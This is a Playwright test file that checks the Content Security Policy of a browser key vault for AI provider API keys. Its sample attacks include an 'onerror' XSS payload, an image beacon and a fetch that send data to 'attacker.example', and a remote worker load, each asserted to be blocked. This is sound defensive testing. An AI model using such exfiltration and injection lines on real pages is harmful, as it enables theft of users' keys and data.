// security.md R24–R26, T24–T28: the page's CSP stops what the sanitiser might ever miss (inline or
// injected scripts, frames, image beacons) and also where data can go: once the service worker
// serves the page, `connect-src` is the five providers plus the endpoints the user approved.
import type { Page } from '@playwright/test';
import { expect, test } from './support/fixtures';
import { waitForServiceWorkerControl } from './support/service-worker';
import { addKey, createVault, makeCanaryKey } from './support/vault-helpers';

const PROVIDER_ORIGINS = [
  'https://api.openai.com', 'https://api.anthropic.com', 'https://generativelanguage.googleapis.com', 'https://api.x.ai', 'https://api.mistral.ai',
];

/** Fetches from the page; says whether each went out, and which CSP directives were violated. */
async function tryFetches(page: Page, urls: string[]): Promise<{ outcomes: Record<string, string>; violations: string[] }> {
  return page.evaluate(async (targets) => {
    const violations: string[] = [];
    const record = (event: SecurityPolicyViolationEvent) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    document.addEventListener('securitypolicyviolation', record);
    const outcomes: Record<string, string> = {};
    for (const url of targets) {
      outcomes[url] = await fetch(url, { credentials: 'omit', cache: 'no-store' }).then((response) => `answered ${response.status}`, () => 'refused');
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    document.removeEventListener('securitypolicyviolation', record);
    return { outcomes, violations };
  }, urls);
}

test('the first load carries a strict <meta> policy with Trusted Types and no unsafe directives', async ({ page }) => {
  await page.goto('/#/vault');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("script-src 'self'");
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("img-src 'self' data: blob:");
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(policy).not.toContain('unsafe-');
});

test('an injected inline script, a remote image and a frame are all refused', async ({ page }) => {
  // Chromium reports a request the policy blocked as a failed request; none may ever get an answer.
  const attackerResponses: string[] = [];
  page.on('response', (response) => {
    if (response.url().includes('attacker.example')) attackerResponses.push(response.url());
  });
  await page.goto('/#/vault');
  await expect(page.getByRole('heading', { level: 1, name: 'Key vault' })).toBeVisible();
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
    const script = document.createElement('script');
    try {
      // Trusted Types refuse the text at once; without them, script-src would refuse to run it.
      script.textContent = 'window.__pwned = 1';
      document.body.append(script);
    } catch (error) {
      seen.push(`thrown ${(error as Error).name}`);
    }
    const image = document.createElement('img');
    image.src = 'https://attacker.example/beacon?d=secret';
    document.body.append(image);
    const frame = document.createElement('iframe');
    frame.src = 'https://attacker.example/frame';
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { seen, pwned: (window as unknown as { __pwned?: number }).__pwned };
  });
  expect(violations.pwned).toBeUndefined();
  expect(violations.seen).toEqual(expect.arrayContaining(['img-src', 'frame-src']));
  expect(violations.seen.includes('script-src-elem') || violations.seen.includes('thrown TypeError')).toBe(true);
  expect(attackerResponses).toEqual([]);
});

test('T26: an HTML sink without Trusted Types throws, and no other policy can be created', async ({ page }) => {
  await page.goto('/#/vault');
  await expect(page.getByRole('heading', { level: 1, name: 'Key vault' })).toBeVisible();
  const outcome = await page.evaluate(() => {
    const attempt = (action: () => void): string => {
      try {
        action();
        return 'allowed';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const element = document.createElement('div');
    return {
      innerHTML: attempt(() => { element.innerHTML = '<img src=x onerror="window.__pwned=1">'; }),
      insertAdjacentHTML: attempt(() => element.insertAdjacentHTML('beforeend', '<b>x</b>')),
      rogue: attempt(() => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('rogue', { createHTML: (input: string) => input })),
      worker: attempt(() => new Worker('https://attacker.example/worker.js')),
    };
  });
  expect(outcome).toEqual({ innerHTML: 'TypeError', insertAdjacentHTML: 'TypeError', rogue: 'TypeError', worker: 'TypeError' });
});

test('T24/T25: served by the worker, the page only connects to the providers and approved endpoints', async ({ page, context, mock }) => {
  // Provider APIs answered locally: a request the CSP let through reaches this route.
  await context.route(/^https:\/\/(api\.openai\.com|api\.anthropic\.com|generativelanguage\.googleapis\.com|api\.x\.ai|api\.mistral\.ai)\//, (route) =>
    route.fulfill({ status: 204, headers: { 'access-control-allow-origin': '*' } }));
  await createVault(page);
  await addKey(page, 'openai', makeCanaryKey('openai'), mock.baseUrlFor('openai'));
  await waitForServiceWorkerControl(page);
  const navigation = await page.reload();
  expect(navigation?.fromServiceWorker()).toBe(true);
  const headers = navigation?.headers() ?? {};
  const policy = headers['content-security-policy'] ?? '';
  const mockOrigin = new URL(mock.baseUrlFor('openai')).origin;
  expect(policy).toContain(`connect-src 'self' ${PROVIDER_ORIGINS.join(' ')} ${mockOrigin}`);
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).toContain("require-trusted-types-for 'script'; trusted-types app-html default");
  expect(policy).not.toMatch(/unsafe-|https:(\s|;|$)/);
  expect(headers).toMatchObject({
    'referrer-policy': 'no-referrer', 'x-content-type-options': 'nosniff', 'cross-origin-opener-policy': 'same-origin',
    'strict-transport-security': expect.stringContaining('max-age=31536000'), 'permissions-policy': expect.stringContaining('camera=()'),
  });

  const otherLoopback = 'http://127.0.0.1:9/steal';
  const { outcomes, violations } = await tryFetches(page, [
    'https://attacker.example/steal?key=1', otherLoopback, ...PROVIDER_ORIGINS.map((origin) => `${origin}/v1/ping`), `${mock.baseUrlFor('openai')}/models`,
  ]);
  expect(outcomes['https://attacker.example/steal?key=1']).toBe('refused');
  expect(outcomes[otherLoopback]).toBe('refused');
  for (const origin of PROVIDER_ORIGINS) expect(outcomes[`${origin}/v1/ping`]).toBe('answered 204');
  expect(outcomes[`${mock.baseUrlFor('openai')}/models`]).toMatch(/^answered/);
  expect(violations.sort()).toEqual(['connect-src http://127.0.0.1:9/steal', 'connect-src https://attacker.example/steal?key=1'].sort());
});
